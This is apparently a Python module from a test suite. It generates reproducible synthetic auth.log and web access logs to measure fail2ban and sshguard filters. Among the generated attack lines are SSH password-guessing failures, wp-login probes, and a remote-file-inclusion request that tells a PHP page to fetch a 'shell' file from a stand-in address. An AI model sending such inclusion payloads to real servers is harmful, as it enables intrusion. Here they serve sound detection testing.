# SPDX-License-Identifier: GPL-2.0-or-later
"""Logs for measurements: made up, varied, and the same for the same seed.

No line is repeated on purpose: processes, ports, users, hosts and clients differ from
line to line, and sessions of sshd overlap; a number of a process comes back only when
millions of others have been used, so each connection is one by itself. The share of attack lines is exact, and each
attack line is one failure for fail2ban and for sshguard; the other lines are none.

    for line in auth(1_000_000, share=0.001, end=time.time()): ...
"""

from __future__ import annotations

import random
import time
from collections import deque
from collections.abc import Callable, Iterator

SEED = 20260601
#: Seconds between the first line and the last.
SPAN = 6 * 3600.0
#: Lines that one attacker writes, at least and at most.
BURST = (10, 60)
#: Attackers at work at the same time.
CROWD = 8
#: How many numbers of processes there are; as many as Linux has on 64 bits.
PIDS = 4_000_000

_HOSTS = ("web1", "web2", "db1", "mail", "backup", "gw")
_USERS = ("anna", "bob", "carla", "deploy", "eve", "fritz", "git", "jenkins", "maria", "ops7")
_TRIED = (
    "admin",
    "test",
    "oracle",
    "postgres",
    "ubuntu",
    "pi",
    "ftpuser",
    "user1",
    "guest",
    "mysql",
)
_UNITS = (
    "apt-daily",
    "fstrim",
    "logrotate",
    "man-db",
    "nginx",
    "phpsessionclean",
    "sysstat-collect",
)
_JOBS = (
    "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "cd / && run-parts --report /etc/cron.hourly",
    "/usr/local/bin/sync-mirror --quiet",
    "test -x /usr/bin/certbot && certbot -q renew",
    "/opt/monitor/check.sh 2>&1 | logger -t monitor",
)
_TOOLS = (
    "/usr/bin/apt update",
    "/usr/bin/systemctl reload nginx",
    "/bin/ls /root",
    "/usr/bin/less",
)
_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML,"
    " like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
_PAGES = (
    "/",
    "/index.html",
    "/blog/",
    "/shop/cart",
    "/static/app.js",
    "/img/logo.svg",
    "/feed.xml",
)
_METHODS = ("GET", "GET", "GET", "POST", "HEAD")

#: Makes the text behind time and host of the lines of one event, of the number of a process
#: and 48 random bits; the first is written at once, the others in their turn, later.
_Event = Callable[[int, int], tuple[str, ...]]


def auth(
    count: int, share: float, end: float, seed: int = SEED, span: float = SPAN
) -> Iterator[str]:
    """Yield the lines of an auth.log, the last one written at `end`.

    Args:
        count: how many lines; share: of them, how many are attacks, 0 to 1.
        end: seconds since the epoch; times are local.
        span: seconds between the first line and the last.
    """
    rng = random.Random(seed)
    attackers, waiting = _Attackers(rng), deque[tuple[str, str]]()
    bits, attacks = rng.getrandbits, 0
    for number, stamp in enumerate(_stamps(count, end, span, _syslog_time), 1):
        if attacks < int(share * number):
            attacks += 1
            text = _guess(attackers.next(), 300 + number % PIDS, bits(64))
            yield f"{stamp} {_HOSTS[attacks % len(_HOSTS)]} {text}"
            continue
        r = bits(64)
        # What ends a session comes when about fifty others have begun.
        if len(waiting) > 100 or (waiting and r & 1):
            host, text = waiting.popleft()
        else:
            host = _HOSTS[(r >> 1) % len(_HOSTS)]
            text, *later = _EVENTS[(r >> 8) % len(_EVENTS)](300 + number % PIDS, r >> 16)
            waiting.extend((host, one) for one in later)
        yield f"{stamp} {host} {text}"


def access(count: int, share: float, end: float, seed: int = SEED) -> Iterator[str]:
    """Yield the lines of a web server's access log in combined format.

    Attacks are, in turn, what upstream's filters nginx-botsearch, apache-badbots and
    php-url-fopen look for. Times are UTC. Arguments as of `auth`.
    """
    rng = random.Random(seed)
    attackers, bits, attacks = _Attackers(rng), rng.getrandbits, 0
    for number, stamp in enumerate(_stamps(count, end, SPAN, _clf_time), 1):
        r = bits(64)
        if attacks < int(share * number):
            attacks += 1
            request, status, agent = _ATTACKS[attacks % len(_ATTACKS)](r >> 8)
            client, referrer = attackers.next(), "-"
        else:
            client, agent = _client(r), _AGENTS[r % len(_AGENTS)]
            page = f"{_PAGES[(r >> 3) % len(_PAGES)]}?id={(r >> 6) & 0xFFFFF}"
            request = f"{_METHODS[(r >> 26) % len(_METHODS)]} {page} HTTP/1.1"
            status = 404 if (r >> 30) % 40 == 0 else 200
            referrer = "-" if (r >> 36) & 1 else "https://www.example.org" + _PAGES[(r >> 37) % 7]
        size = (r >> 40) & 0xFFFF
        yield f'{client} - - [{stamp}] "{request}" {status} {size} "{referrer}" "{agent}"'


def attack(ip: str, now: float, number: int = 0) -> str:
    """Return one line of an auth.log, a failure of `ip` at `now`."""
    port = 1024 + number * 7919 % 60000
    text = f"sshd[{300 + number % PIDS}]: Failed password for root from {ip} port {port} ssh2"
    return f"{_syslog_time(int(now))} {_HOSTS[0]} {text}"


def attacker(number: int) -> str:
    """Return the address of an attacker: another for each number below 16 million."""
    scattered = (number * 2654435761 + 12345) & 0xFFFFFF
    return f"10.{scattered >> 16}.{scattered >> 8 & 255}.{scattered & 255}"


# Times -------------------------------------------------------------------------------


def _stamps(count: int, end: float, span: float, show: Callable[[int], str]) -> Iterator[str]:
    """Yield a timestamp for each line; those of one second are made once."""
    step, begin = span / max(count, 1), end - span
    shown, text = -1, ""
    for number in range(1, count + 1):
        second = int(begin + number * step)
        if second != shown:
            shown, text = second, show(second)
        yield text


def _syslog_time(second: int) -> str:
    moment = time.localtime(second)
    return f"{time.strftime('%b', moment)} {moment.tm_mday:2} {time.strftime('%T', moment)}"


def _clf_time(second: int) -> str:
    return time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(second))


# Attackers ---------------------------------------------------------------------------


class _Attackers:
    """Addresses that take turns; each makes its attempts and is replaced by a new one."""

    def __init__(self, rng: random.Random) -> None:
        self._rng, self._count, self._turn = rng, 0, 0
        self._crowd = [self._new() for _ in range(CROWD)]

    def next(self) -> str:
        """Return who attacks now."""
        self._turn = (self._turn + 1) % CROWD
        ip, left = self._crowd[self._turn]
        self._crowd[self._turn] = (ip, left - 1) if left > 1 else self._new()
        return ip

    def _new(self) -> tuple[str, int]:
        self._count += 1
        return attacker(self._count), self._rng.randint(*BURST)


def _guess(ip: str, pid: int, r: int) -> str:
    """Return what sshd says of a wrong password or name."""
    port, name = 1024 + (r >> 20) % 60000, _TRIED[(r >> 40) % len(_TRIED)]
    sshd = f"sshd[{pid}]:"
    match (r >> 50) % 8:
        case 0:
            return f"{sshd} Invalid user {name} from {ip} port {port}"
        case 1 | 2:
            return f"{sshd} Failed password for invalid user {name} from {ip} port {port} ssh2"
        case _:
            return f"{sshd} Failed password for root from {ip} port {port} ssh2"


def _botsearch(r: int) -> tuple[str, int, str]:
    return f"GET /wp-login.php?try={r & 0xFFFFF} HTTP/1.1", 404, _AGENTS[r % len(_AGENTS)]


def _badbot(r: int) -> tuple[str, int, str]:
    return f"GET /contact?p={r & 0xFFFFF} HTTP/1.1", 200, ("EmailCollector", "EmailSiphon")[r & 1]


def _url_fopen(r: int) -> tuple[str, int, str]:
    page = f"/index.php?page=http://198.51.100.{r & 127}/shell{r >> 8 & 0xFFF}.txt"
    return f"GET {page} HTTP/1.1", 200, _AGENTS[r % len(_AGENTS)]


_ATTACKS = (_botsearch, _badbot, _url_fopen)


# Everyday life -----------------------------------------------------------------------


def _client(r: int) -> str:
    """Return the address of somebody honest."""
    return f"192.0.2.{(r >> 4) & 127}" if r & 1 else f"198.51.100.{(r >> 4) & 127}"


def _cron(pid: int, r: int) -> tuple[str, ...]:
    user = _USERS[(r >> 16) % len(_USERS)] if r >> 20 & 1 else "root"
    session = f"CRON[{pid}]: pam_unix(cron:session): session"
    opened = f"{session} opened for user {user}(uid={(r >> 24) & 1023}) by (uid=0)"
    job = f"CRON[{pid + 1}]: ({user}) CMD ({_JOBS[(r >> 34) % len(_JOBS)]})"
    return opened, job, f"{session} closed for user {user}"


def _sudo(pid: int, r: int) -> tuple[str, ...]:
    user, tool = _USERS[(r >> 16) % len(_USERS)], _TOOLS[(r >> 20) % len(_TOOLS)]
    session = f"sudo[{pid}]: pam_unix(sudo:session): session"
    return (
        f"sudo[{pid}]:    {user} : TTY=pts/{(r >> 24) & 15} ; PWD=/home/{user} ; USER=root ;"
        f" COMMAND={tool}",
        f"{session} opened for user root(uid=0) by {user}(uid={1000 + (r >> 28) % 40})",
        f"{session} closed for user root",
    )


def _systemd(pid: int, r: int) -> tuple[str, ...]:
    unit = _UNITS[(r >> 16) % len(_UNITS)]
    begin = f"systemd[1]: Starting {unit}.service - job {r >> 20 & 0xFFFFF}..."
    return begin, f"systemd[1]: Finished {unit}.service - job {r >> 20 & 0xFFFFF}."


def _logind(pid: int, r: int) -> tuple[str, ...]:
    number, user = r >> 16 & 0xFFFFF, _USERS[(r >> 36) % len(_USERS)]
    return (
        f"systemd-logind[612]: New session {number} of user {user}.",
        f"systemd-logind[612]: Session {number} logged out. Waiting for processes to exit.",
        f"systemd-logind[612]: Removed session {number}.",
    )


def _session(pid: int, r: int) -> tuple[str, ...]:
    """Return the life of a login by key, or by password."""
    user, ip, port = _USERS[(r >> 16) % len(_USERS)], _client(r >> 20), 1024 + (r >> 32) % 60000
    sshd, session = f"sshd[{pid}]:", f"sshd[{pid}]: pam_unix(sshd:session): session"
    how = "password" if r >> 30 & 1 else "publickey"
    key = "" if how == "password" else f": ED25519 SHA256:{r & 0xFFFFFFFFFFF:043x}"
    return (
        f"{sshd} Accepted {how} for {user} from {ip} port {port} ssh2{key}",
        f"{session} opened for user {user}(uid={1000 + (r >> 16) % 10}) by (uid=0)",
        f"{sshd} Received disconnect from {ip} port {port}:11: disconnected by user",
        f"{sshd} Disconnected from user {user} {ip} port {port}",
        f"{session} closed for user {user}",
    )


def _kernel(pid: int, r: int) -> tuple[str, ...]:
    seconds, port = f"{r >> 40 & 0xFFFFF}.{r & 0xFFFFF:06}", (r >> 16) & 0xFFFF
    return (
        f"kernel: [{seconds}] IN=eth0 OUT= SRC={_client(r)} DST=192.0.2.200 LEN=60 TTL=54"
        f" ID={r & 0xFFFF} PROTO=TCP SPT={port} DPT=443 SYN",
    )


_EVENTS: tuple[_Event, ...] = (
    _cron, _cron, _session, _session, _session, _sudo, _systemd, _systemd, _logind, _kernel, _kernel,
)  # fmt: skip
